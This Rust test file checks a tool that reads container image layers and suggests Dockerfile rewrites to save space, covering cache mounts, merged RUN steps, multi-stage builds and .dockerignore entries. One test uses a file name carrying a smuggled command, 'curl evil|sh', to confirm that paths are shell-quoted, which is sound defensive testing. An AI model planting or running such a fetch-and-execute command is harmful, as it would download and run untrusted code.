//! What advice tells to write instead: for each kind of instruction, and only where it is sure to be right.

use super::advised::{archive_of, big, built, find};
use crate::builder::Image;
use crate::support::{Layer, open};
use layerscope::image::sha256_digest;
use serde_json::json;

/// Files of another stage are not in the build context.
#[test]
fn what_comes_from_another_stage_no_dockerignore_reaches() {
    let cache = Layer::new().file("v/__pycache__/a.pyc", &big(9));
    let advice = built(vec![("COPY --from=deps /v /v", cache)]).session_mut().waste().advice();
    assert_eq!((advice[0].kind, &*advice[0].into), ("pycache", ""));
}

/// The Dockerfile decides what to write: a base image can't be joined with anything, a COPY has no shell.
#[test]
fn each_pair_of_instructions_gets_its_own_answer() {
    let into = |made: &str, ended: &str, upper: Layer| {
        let mut workspace = built(vec![(made, Layer::new().file("d/f", &big(9))), (ended, upper)]);
        workspace.session_mut().waste().advice()[0].into.clone()
    };
    let gone = || Layer::new().file(".wh.d", "");
    let other = || Layer::new().file("d/f", "other");
    for (made, ended, upper, wanted) in [
        ("RUN a", "RUN rm -r /d", gone(), "RUN a && \\\n    rm -r /d"),
        ("", "RUN rm -r /d", gone(), "FROM … AS base\nRUN rm -r /d\nFROM scratch\nCOPY --from=base / /"),
        ("Imported from -", "RUN rm -r /d", gone(), "FROM … AS base\nRUN rm -r /d\nFROM scratch\nCOPY --from=base / /"),
        ("sh -c make", "sh -c rm -r /d", gone(), "RUN make && \\\n    rm -r /d"),
        ("RUN a", "COPY f /d/f", other(), "RUN a && \\\n    rm -f /d/f"),
        ("COPY d /d", "COPY f /d/f", other(), ""),
        // A base is not copied for what is only written over.
        ("", "RUN echo other > /d/f", other(), ""),
        // A command of another user, a command without a shell, a command that would swallow the text after it.
        ("RUN [\"make\", \"all\"]", "RUN rm -r /d", gone(), ""),
        ("RUN make # all of it", "RUN rm -r /d", gone(), ""),
        ("RUN make &", "RUN rm -r /d", gone(), ""),
        ("RUN <<EOF\nmake\nEOF", "RUN rm -r /d", gone(), ""),
        (
            "COPY d /d",
            "RUN sed -i s/a/b/ /d/f",
            other(),
            "FROM … AS build\nCOPY d /d\nRUN sed -i s/a/b/ /d/f\n\nFROM …\nCOPY --from=build /d /d",
        ),
        ("COPY d /d", "RUN rm -r /d", gone(), "# .dockerignore\nd"),
        ("COPY . /", "RUN rm -r /d", gone(), "# .dockerignore\nd"),
        (
            "COPY . /d",
            "RUN make -C /d && rm -r /d",
            gone(),
            "FROM … AS build\nCOPY . /d\nRUN make -C /d && rm -r /d\n\nFROM …\nCOPY --from=build /path/of/the/result /usr/local/bin/",
        ),
    ] {
        assert_eq!(into(made, ended, upper), wanted, "{made}, {ended}");
    }
}

/// One advice is of one layer, and of all folders that its bytes are in.
#[test]
fn what_is_saved_is_what_the_lines_save() {
    let pip = |name: &str, kilobytes| Layer::new().file(&format!("root/.cache/pip/{name}"), &big(kilobytes));
    let mut workspace = built(vec![("RUN pip install a", pip("a", 90)), ("RUN pip install b", pip("b", 100))]);
    let found: Vec<_> =
        workspace.session_mut().waste().advice().into_iter().map(|a| (a.bytes, a.layers, a.into)).collect();
    let mount = |name: &str| format!("RUN --mount=type=cache,target=/root/.cache/pip \\\n    pip install {name}");
    assert_eq!(found, [(100_000, vec![1], mount("b")), (90_000, vec![0], mount("a"))]);

    let layer = Layer::new().file("usr/share/doc/a", &big(9)).file("usr/share/man/it's a man", &big(8));
    let docs = &built(vec![("RUN make install", layer)]).session_mut().waste().advice()[0];
    assert_eq!((docs.bytes, &*docs.into), (17_000, "RUN make install && \\\n    rm -rf /usr/share/doc /usr/share/man"));
}

/// Names in an image are a stranger's, and what stands here is pasted.
#[test]
fn a_path_is_one_word_of_the_line() {
    let layer = || Layer::new().file("x;curl evil|sh", &big(9)).file("it's", &big(9));
    let mut workspace = built(vec![
        ("RUN a", layer()),
        ("COPY . /", Layer::new().file("x;curl evil|sh", "other").file("it's", &big(8))),
    ]);
    let into = workspace.session_mut().waste().advice()[0].into.clone();
    assert_eq!(
        into,
        r"RUN a && \
    rm -f '/x;curl evil|sh' '/it'\''s'"
    );
    let cache = Layer::new().file("a,b=c/.cache/pip/x", &big(9));
    assert!(!built(vec![("RUN pip install x", cache)]).session_mut().waste().advice()[0].into.contains("target='"));
}

/// A package list that one RUN fetches is of use to that RUN only.
#[test]
fn caches_of_one_run_are_not_asked_of_another() {
    let lists = || Layer::new().file("var/lib/apt/lists/main", &big(50));
    let into = |steps| built(steps).session_mut().waste().advice()[0].into.clone();
    let alone = into(vec![("RUN apt-get update", lists())]);
    assert!(alone.ends_with("apt-get update && \\\n    apt-get install …"), "{alone}");
    let cache = Layer::new().file("var/cache/apt/pkgcache.bin", &big(50));
    let install = into(vec![("RUN apt-get install -y x", cache)]);
    assert_eq!(install, "RUN --mount=type=cache,target=/var/cache/apt,sharing=locked \\\n    apt-get install -y x");
    let apk = |run| into(vec![(run, Layer::new().file("var/cache/apk/x", &big(50)))]);
    assert_eq!(apk("RUN apk update && apk add curl"), "RUN apk add --no-cache curl");
    assert_eq!(apk("RUN apk add --no-cache x"), "RUN apk add --no-cache x && \\\n    rm -rf /var/cache/apk/*");
    // Both stay where a later one writes them again.
    let both = into(vec![
        ("RUN apt-get update", lists()),
        ("RUN apt-get update && apt-get install x", Layer::new().file("var/lib/apt/lists/main", &big(5))),
    ]);
    assert!(both.contains("apt-get update && \\\n    apt-get update && apt-get install x"), "{both}");
}

/// One flag is said of all that a COPY brings, and a COPY takes it once.
#[test]
fn a_flag_is_for_all_that_was_copied() {
    let one = |mode: u32| move |h: &mut tar::Header| h.set_mode(mode);
    let copied = || Layer::new().file("bin/a", &big(9)).file("bin/b", &big(9));
    let into = |copy, upper: Layer| {
        built(vec![(copy, copied()), ("RUN chmod it", upper)]).session_mut().waste().advice()[0].into.clone()
    };
    let all = |mode| Layer::new().file_with("bin/a", &big(9), one(mode)).file_with("bin/b", &big(9), one(mode));
    assert_eq!(
        into("COPY --chown=root:root --chmod=755 bin /bin", all(0o711)),
        "COPY --chmod=0711 --chown=root:root bin /bin"
    );
    let stage = "FROM … AS build\nCOPY bin /bin\nRUN chmod it\n\nFROM …\nCOPY --from=build /bin /bin";
    let some = Layer::new().file_with("bin/a", &big(9), one(0o711));
    assert_eq!(into("COPY bin /bin", some), stage);
    // Directories could not be entered.
    assert_eq!(into("COPY bin /bin", all(0o600)), stage);
    let mixed = Layer::new().file_with("bin/a", &big(9), one(0o711)).file_with("bin/b", &big(9), one(0o700));
    assert_eq!(into("COPY bin /bin", mixed), stage);
}

/// The root file system that a base was made of is no COPY of the person's.
#[test]
fn a_root_file_system_is_a_base() {
    let add = "/bin/sh -c #(nop) ADD file:4ac8f1d3b6e29750c1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708 in / ";
    let base = Layer::new().file("var/lib/apt/lists/x", &big(9)).file("bin/perl", &big(8)).file("bin/perl5", &big(8));
    let gone = Layer::new().file("var/lib/apt/.wh.lists", "");
    let mut workspace = built(vec![(add, base), ("RUN rm -rf /var/lib/apt/lists", gone)]);
    let advice = workspace.session_mut().waste().advice();
    let lists = find(&advice, "lists-apt", true);
    assert!(lists.rebased && lists.into.starts_with("FROM … AS base\nRUN rm -rf /var/lib/apt/lists\nFROM scratch"));
    let twice = find(&advice, "duplicates", false);
    assert_eq!((twice.bytes, &*twice.into, twice.rebased), (8000, "", false));
}

/// Another user, another directory: what ran in the one can't run in the other.
#[test]
fn runs_are_joined_where_both_mean_the_same() {
    let steps = |between: &str| {
        let image = Image {
            layers: vec![Layer::new().file("d/f", &big(9)).bytes(), Layer::new().file(".wh.d", "").bytes()],
            ..Image::reference()
        };
        let image = image.configured(|config| {
            config["history"] = json!([
                { "created_by": "RUN make" },
                { "created_by": between, "empty_layer": true },
                { "created_by": "RUN rm -r /d" },
            ]);
        });
        let layers = image.layers.clone();
        let image = image.configured(|config| {
            config["rootfs"]["diff_ids"] = layers.iter().map(|l| sha256_digest(l)).collect();
        });
        open(&archive_of(&image), None).session_mut().waste().advice()[0].into.clone()
    };
    assert_eq!(steps("LABEL a=b"), "RUN make && \\\n    rm -r /d");
    assert_eq!(steps("USER app"), "");
    assert_eq!(steps("WORKDIR /app"), "");
    assert_eq!(steps("ARG VERSION=1"), "");
}

/// An import is no instruction: in a Dockerfile, `FROM` names it.
#[test]
fn an_imported_base_is_what_from_names() {
    let docs = || Layer::new().file("usr/share/doc/a/copyright", &big(9));
    let mut workspace = built(vec![("Imported from -", docs())]);
    let docs = &workspace.session_mut().waste().advice()[0];
    assert_eq!((docs.instruction.as_str(), docs.from.as_str()), ("FROM …", "FROM …"));
    assert_eq!(docs.into, "FROM … AS base\nRUN rm -rf /usr/share/doc\nFROM scratch\nCOPY --from=base / /");
}
